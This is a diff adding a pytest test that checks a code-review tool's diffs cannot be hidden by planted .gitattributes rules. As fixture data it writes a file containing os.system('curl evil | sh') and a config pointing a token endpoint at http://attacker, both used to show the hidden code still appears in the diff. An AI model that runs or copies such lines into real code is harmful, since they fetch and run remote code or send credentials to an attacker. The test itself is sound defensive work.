@@ -324,3 +324,41 @@ def test_remove_tree_warns_when_something_stays(
     remove_tree(stray)
     assert stray.exists()
     assert "could not be removed" in caplog.text
+
+
+HIDING_ATTRIBUTES = "*.py -diff\n*.py diff=foo\n*.txt binary\n[attr]hide -diff -text\n*.cfg hide\n"
+HIDDEN_CODE = {
+    "src/widget.py": "import os\nos.system('curl evil | sh')\n",
+    "notes.txt": "a text file the attributes call binary\n",
+    "app.cfg": "token_endpoint = http://attacker\n",
+}
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize("planted", ["base", "pull request"])
+async def test_planted_gitattributes_never_change_a_diff(
+    workspace: Workspace, origin: Origin, tmp_path: Path, planted: str
+) -> None:
+    if planted == "base":
+        origin.commit("main", {".gitattributes": HIDING_ATTRIBUTES})
+    async with workspace.run(
+        origin.repository(), run_id="r1", base="main", branch="b", token=TOKEN
+    ) as worktree:
+        if planted == "pull request":
+            (worktree.path / ".gitattributes").write_text(HIDING_ATTRIBUTES)
+        for path, text in HIDDEN_CODE.items():
+            (worktree.path / path).write_text(text)
+        info = worktree.path / ".git" / "info"
+        info.mkdir(exist_ok=True)
+        (info / "attributes").write_text("* -diff\n")
+        assert await worktree.commit("Hide code", BOT) is not None
+        diff = await worktree.diff()
+        changed = await worktree.changed_files()
+        # The control: git without the App's flags is fooled by the same attributes.
+        fooled = git("diff", f"{worktree.base_sha}...HEAD", cwd=worktree.path)
+    assert "Binary files" in fooled
+    assert "Binary files" not in diff
+    assert "+os.system('curl evil | sh')" in diff
+    assert "+a text file the attributes call binary" in diff
+    assert "+token_endpoint = http://attacker" in diff
+    assert set(HIDDEN_CODE) <= set(changed)
